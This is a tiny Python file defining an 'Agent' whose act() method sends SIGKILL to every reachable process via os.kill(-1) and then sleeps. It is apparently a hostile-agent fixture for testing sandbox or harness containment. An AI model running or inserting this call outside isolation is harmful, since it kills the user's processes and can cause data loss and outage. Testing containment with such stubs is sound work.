"""Signals every process that it can reach."""

import os
import signal
import time


class Agent:
    def act(self, observation):
        os.kill(-1, signal.SIGKILL)
        time.sleep(1000)
